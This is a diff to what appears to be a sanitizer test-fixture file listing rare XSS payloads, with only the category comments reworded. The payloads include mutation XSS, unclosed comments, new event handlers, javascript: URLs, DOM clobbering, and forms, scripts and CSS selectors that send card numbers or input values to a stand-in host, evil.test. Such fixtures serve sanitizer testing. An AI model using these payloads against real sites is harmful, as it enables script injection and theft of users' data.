@@ -1,6 +1,6 @@
-/** The rarer classes: what is read twice, what never ends, newer handlers, addresses, names, styles, texts that wait for a second reading. */
+/** Rarer XSS payloads: mutation XSS, unclosed markup, new event handlers, addresses, DOM clobbering, styles, double decoding. */
 export const ODD: readonly string[] = [
-  // Parsers that read it twice: foreign content, raw text and comments that end elsewhere the second time.
+  // Mutation XSS: foreign content, raw text and comments that end elsewhere when the browser parses them again.
   '<svg><title><style><img src="</style><img src=x onerror=xss()>"></style></title></svg>',
   '<svg><desc><noscript><img title="</noscript></desc></svg><img src=x onerror=xss()>"></noscript></desc></svg>',
   '<svg><style>&lt;/style&gt;&lt;img src=x onerror=xss()&gt;</style></svg>',
@@ -34,7 +34,7 @@ export const ODD: readonly string[] = [
   '<p><table><a href="javascript:xss()"><tr><td>Link</td></tr></a></table>',
   `${'<div>'.repeat(520)}<svg><style><img title="</style><img src=x onerror=xss()>"></style></svg>${'</div>'.repeat(520)}`,
   `${'<b>'.repeat(60)}<img src=x onerror=xss()>Text${'</b>'.repeat(60)}`,
-  // Comments, declarations and tags that never end.
+  // Unclosed comments, declarations and tags.
   '<!-- --!><img src=x onerror=xss()> -->',
   '<!--- --!><img src=x onerror=xss()>',
   '<!---><img src=x onerror=xss()>--->',
@@ -57,7 +57,7 @@ export const ODD: readonly string[] = [
   '<b title=x\u000Bonmouseover=xss() onclick=xss()>Text</b>',
   '<b onclick\u0000=xss() onclick=xss()>Text</b>',
   '<im\u0000g src=x onerror=xss()>',
-  // Handlers of the newer kinds.
+  // Newer event handler attributes.
   '<b oncontentvisibilityautostatechange=xss() style="display:block;content-visibility:auto">Text</b>',
   '<b ontransitionend=xss() ontransitionrun=xss() style="transition:color 1s">Text</b>',
   '<b onwebkitanimationstart=xss() onwebkittransitionend=xss()>Text</b>',
@@ -82,7 +82,7 @@ export const ODD: readonly string[] = [
   '<svg><set attributeName=href to=javascript:xss() onend=xss() onrepeat=xss() /></svg>',
   '<svg><discard onbegin=xss() /><animateTransform onbegin=xss() attributeName=transform /><animateMotion onbegin=xss() /></svg>',
   '<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>xss()</handler></svg>',
-  // Addresses, and what leads or loads somewhere.
+  // Addresses that run code, and elements that navigate or load.
   '<a href="javascript&colon;xss()">Link</a>',
   '<a href="javascript&#0000058xss()">Link</a>',
   '<a href="&Tab;java&NewLine;script&colon;xss&lpar;&rpar;">Link</a>',
@@ -120,12 +120,12 @@ export const ODD: readonly string[] = [
   '<script for=window event=onload>xss()</script><script nomodule>xss()</script>',
   '<script async defer src="//evil.test/x.js" crossorigin></script>',
   '<script>/*<!--<script>*/xss()</script>--></script>',
-  // Forms and buttons that send what a person types elsewhere.
+  // Forms and buttons that send what a person types to another site.
   '<form action="//evil.test" method=post><input name=cardno autocomplete=cc-number><button>Send</button></form>',
   '<button formaction="//evil.test" formmethod=get>Send</button><input type=submit formaction="javascript:xss()">',
   '<form id=a></form><input form=a name=card><button form=a formaction="javascript:xss()" onclick=xss()>Send</button>',
   '<isindex action="javascript:xss()" type=submit value=Send><keygen autofocus onfocus=xss()>',
-  // Names of the page and of its widgets.
+  // DOM clobbering: ids and names that shadow globals of the page and of the widgets.
   '<a id=waybill></a><a id=waybill name=configure href="tel:1">Link</a><a id=trustedTypes></a>',
   '<form name=body id=defaultView><input name=firstChild><input name=getAttributeNames><input name=removeAttribute></form>',
   '<form id=implementation><input name=createHTMLDocument><input id=textContent name=children><input name=parentNode></form>',
@@ -137,7 +137,7 @@ export const ODD: readonly string[] = [
   '<script type=module src="/dist/waybill.js" data-api="//evil.test"></script>',
   '<p slot=cart slot=footer exportparts="button: x" part="button price" is=waybill-cart itemscope nonce=x>Text</p>',
   '<slot name=x onslotchange=xss()>Text</slot><button is=x-evil popovertarget=x onclick=xss()>Text</button>',
-  // Styles that read, cover or load.
+  // Styles that leak input, cover the page or load resources.
   '<style>input[value^="4"]{background:url(//evil.test/4)}</style>Text',
   '<style>:host{position:fixed;inset:0}@font-face{font-family:x;src:url(//evil.test/f)}*{font-family:x}</style>Text',
   '<style>@keyframes x{}*{animation:x}</style><b onanimationstart=xss()>Text</b>',
@@ -145,7 +145,7 @@ export const ODD: readonly string[] = [
   '<b style="position:fixed;inset:0;z-index:9999;opacity:0">Text</b>',
   '<b style="width:expression(xss());behavior:url(x.htc);-moz-binding:url(x.xml#x)">Text</b>',
   '<div class="toast btn btn-primary" id=dialog hidden inert aria-hidden=true role=alert>Text</div>',
-  // Texts that only a second reading would make into something.
+  // Double-encoded texts, which become markup only when decoded twice.
   '&#60;img src=x onerror=xss()&#62;',
   '&amp;lt;script&amp;gt;xss()&amp;lt;/script&amp;gt;',
   '\uFF1Cscript\uFF1Exss()\uFF1C/script\uFF1E',
